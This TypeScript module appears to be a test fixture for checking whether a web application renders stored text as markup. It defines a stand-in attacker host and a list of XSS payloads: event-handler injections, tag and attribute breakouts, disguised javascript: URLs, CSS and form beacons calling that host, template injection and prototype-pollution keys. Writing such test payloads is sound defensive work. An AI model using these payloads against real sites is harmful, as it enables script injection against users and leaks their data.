/** A request to this host means that a payload was let in. */
export const ATTACKER = 'https://xss.example';

/** What markup of a payload is known by: an element of this name or class on a page is text that became markup. */
export const PARSED = 'xss-parsed';

const tag = `class="${PARSED}"`;
const mark = (id: string) => `__xss('${id}')`;

/** Texts that somebody who writes to the database would try, each with the name by which its mark is reported. */
export const PAYLOADS: Readonly<Record<string, string>> = {
  picture: `<img ${tag} src=x onerror="${mark('picture')}">`,
  svg: `<svg ${tag} onload="${mark('svg')}"><script>${mark('svg')}</script></svg>`,
  endOfAttribute: `"><script ${tag}>${mark('endOfAttribute')}</script>`,
  endOfApostrophes: `'><img ${tag} src=x onerror=${mark('endOfApostrophes')}>`,
  endOfTags: `--></textarea></title></style></script><img ${tag} src=x onerror="${mark('endOfTags')}">`,
  handlers: `" onmouseover="${mark('handlers')}" onfocus="${mark('handlers')}" autofocus x="`,
  address: `javascript:${mark('address')}`,
  addressInDisguise: `\u0001 jAvA\tScR\nIpT:${mark('addressInDisguise')}//https://`,
  addressInEntities: `<a ${tag} href="&#106;ava&Tab;script&colon;${mark('addressInEntities')}">看</a>`,
  addressOfData: `data:text/html,<script>${mark('addressOfData')}</script>`,
  styles: `</style><style ${tag}>*{background:url(${ATTACKER}/styles)}</style>`,
  backgrounds: `#fff url(${ATTACKER}/backgrounds)`,
  declarations: `red;background-image:url(${ATTACKER}/declarations);width:expression(${mark('declarations')})`,
  templates: `{{constructor.constructor("${mark('templates')}")()}}\${${mark('templates')}}<%= ${mark('templates')} %>`,
  prototype: '__proto__',
  constructed: 'constructor',
  separators: `\u2028\u2029*/</script><script ${tag}>${mark('separators')}</script>`,
  frames: `<iframe ${tag} srcdoc="<script>parent.${mark('frames')}</script>"></iframe>`,
  beacons: `<link ${tag} rel=stylesheet href=${ATTACKER}/a><video ${tag} poster=${ATTACKER}/b></video><input ${tag} type=image src=${ATTACKER}/c>`,
  forms: `<form ${tag} action=${ATTACKER}/form><button formaction="javascript:${mark('forms')}">好</button></form>`,
  mutations: `<math><mtext><table><mglyph><style><!--</style><img ${tag} title="--&gt;&lt;img src=1 onerror=${mark('mutations')}&gt;">`,
  long: `<img ${tag} src=x onerror="${mark('long')}">`.repeat(400).slice(0, 20_000),
};

/** Where there is room for a few letters only. */
export const SHORT = `<svg onload=${mark('short')}>`;

/** `value` with every text in it, and every name of an object, replaced: a believable shape with hostile contents. */
export function hostile(value: unknown, payload: string): unknown {
  if (Array.isArray(value)) return value.map((one) => hostile(one, payload));
  if (typeof value !== 'object' || value === null) return payload;
  const entries = Object.entries(value).map(([name, one]) => [name, hostile(one, payload)] as const);
  return Object.fromEntries(entries);
}
